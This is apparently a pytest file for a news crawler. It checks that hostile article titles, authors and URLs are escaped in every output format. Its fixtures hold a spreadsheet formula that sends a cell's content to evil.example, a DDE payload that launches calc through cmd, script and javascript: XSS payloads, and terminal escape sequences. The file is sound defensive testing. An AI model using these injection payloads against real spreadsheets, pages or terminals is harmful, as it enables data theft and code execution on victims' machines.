"""What came from a page is escaped in every output format (DESIGN: reliability and security).

A hostile outlet's titles, authors and URLs carry spreadsheet formulas, raw HTML, javascript:
links, a ``)`` that ends a Markdown link, and terminal escapes (ESC, BEL, C1 CSI, bidi
overrides). The archive keeps them as the page had them; each renderer escapes them.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from crawler import escape
from crawler.items import Article
from crawler.store.archive import Archive
from tests.factories import WATER
from tests.newsmon_cli import run_newsmon

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HTML_TITLE = "<script>alert(1)</script> [win](javascript:alert(2)) <img src=x onerror=alert(3)>"
ESCAPE_TITLE = "Calm \x1b]0;owned\x07 title \x1b[2J\x9b31m red \u202eevil\u202c end\r fake"
PAREN_URL = "https://hostile.example/news/a)b (c)/"
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _article(
    article_id: str,
    title: str,
    url: str,
    *,
    authors: list[str] | None = None,
    published: str = "2026-11-09T10:00:00+00:00",
) -> Article:
    return Article(
        id=article_id,
        url=url,
        canonical_url=url,
        outlet="hostile",
        title=title,
        text=WATER,
        fetched="2026-11-10T12:00:00+00:00",
        published=published,
        language="en",
        cluster="c1",
        authors=authors or [],
    )


@pytest.fixture
def hostile_archive(db_path: Path) -> Path:
    """One cluster whose four members carry a formula, HTML, terminal escapes, a `)` URL."""
    with Archive(db_path) as archive:
        for article in (
            _article(
                "h1",
                FORMULA_TITLE,
                "https://hostile.example/news/1/",
                authors=["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"],
                published="2026-11-09T09:00:00+00:00",
            ),
            _article("h2", HTML_TITLE, "javascript:alert(4)//hostile.example/"),
            _article("h3", ESCAPE_TITLE, "https://hostile.example/news/3/"),
            _article("h4", "Parenthesis", PAREN_URL),
        ):
            archive.store_article(article)
    return db_path


def _report(db: Path, fmt: str) -> str:
    done = run_newsmon("report", "clusters", "--db", str(db), "--format", fmt)
    assert done.stderr == ""
    return done.stdout


def test_report_csv_cells_never_start_a_formula(hostile_archive: Path) -> None:
    scope, _, table = _report(hostile_archive, "csv").partition("\n")
    assert scope.startswith("# clusters: period ")  # the period and filters, then the table
    rows = list(csv.DictReader(io.StringIO(table)))
    titles = {r["id"]: r["title"] for r in rows}
    assert titles["h1"] == "'" + FORMULA_TITLE
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in rows
        for cell in row.values()
    )


def test_export_csv_titles_and_authors_never_start_a_formula(hostile_archive: Path) -> None:
    done = run_newsmon("export", "--db", str(hostile_archive), "--format", "csv")
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(done.stdout))}
    assert rows["h1"]["title"] == "'" + FORMULA_TITLE
    assert rows["h1"]["authors"].startswith("'@SUM")
    assert not CONTROLS.search(done.stdout.replace("\r\n", "\n"))


def test_report_markdown_has_no_raw_html_no_javascript_link_and_whole_urls(
    hostile_archive: Path,
) -> None:
    out = _report(hostile_archive, "markdown")
    assert not re.search(r"(?<!\\)<", out)  # every < is escaped: no raw HTML
    assert "](javascript:" not in out
    assert "[Parenthesis](https://hostile.example/news/a%29b%20%28c%29/)" in out
    assert not CONTROLS.search(out)


def test_report_table_shows_terminal_escapes_instead_of_sending_them(hostile_archive: Path) -> None:
    out = _report(hostile_archive, "table")
    assert not CONTROLS.search(out)
    assert "Calm \\x1b]0;owned\\x07 title" in out


def test_report_html_links_only_http_and_escapes_titles(hostile_archive: Path) -> None:
    out = _report(hostile_archive, "html")
    assert "<script>" not in out and "<img src=x" not in out
    assert 'href="javascript:' not in out.replace("&#x27;", "'")
    assert not CONTROLS.search(out.replace("\n", ""))


def test_report_json_escapes_c1_and_bidi_but_keeps_the_data(hostile_archive: Path) -> None:
    out = _report(hostile_archive, "json")
    assert not CONTROLS.search(out)
    (record,) = json.loads(out)["clusters"]
    assert {m["title"] for m in record["members"]} >= {ESCAPE_TITLE, HTML_TITLE}


def test_extract_text_output_has_no_terminal_escapes(tmp_path: Path) -> None:
    paragraph = "A quiet invented paragraph about a valley road and its new bridge. " * 6
    page = tmp_path / "page.html"
    page.write_text(
        "<html><head><title>x</title></head><body><article>"
        "<h1>Bridge \x9b31m opened &#x202e;txet&#x202c; today</h1>"
        f"<p>{paragraph} Then \x1b[2J\x07 a note.</p><p>{paragraph}</p></article></body></html>",
        encoding="utf-8",
    )
    done = run_newsmon(
        "extract", str(page), "--url", "https://valley.example/news/bridge/", "--format", "text"
    )
    assert "Bridge \\x9b31m opened \\u202etxet\\u202c today" in done.stdout
    assert not CONTROLS.search(done.stdout)


@pytest.mark.parametrize(("value", "safe"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\\x0d=1"), ("plain", "plain"), (3, 3), (None, None), (-0.5, -0.5),
])  # fmt: skip
def test_csv_cell_neutralises_formula_starts(value: object, safe: object) -> None:
    assert escape.csv_cell(value) == safe


def test_markdown_link_does_not_link_other_schemes() -> None:
    assert escape.markdown_link("x", "javascript:alert(1)") == "x (javascript:alert\\(1\\))"
    assert escape.markdown_link("x", "data:text/html,<b>") == "x (data:text/html,\\<b\\>)"


def test_log_lines_show_control_characters_as_escapes(capsys: pytest.CaptureFixture[str]) -> None:
    import logging

    from crawler.cli import _configure_logging

    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    try:
        _configure_logging(0, False)
        logging.getLogger("crawler.fetch.spiders.outlet").warning(
            "feed %s failed: %s", "http://x.example/\x1b[2J", "\x9b31m"
        )
    finally:
        root.handlers[:], root.level = handlers, level
    err = capsys.readouterr().err
    assert err.endswith("feed http://x.example/\\x1b[2J failed: \\x9b31m\n")
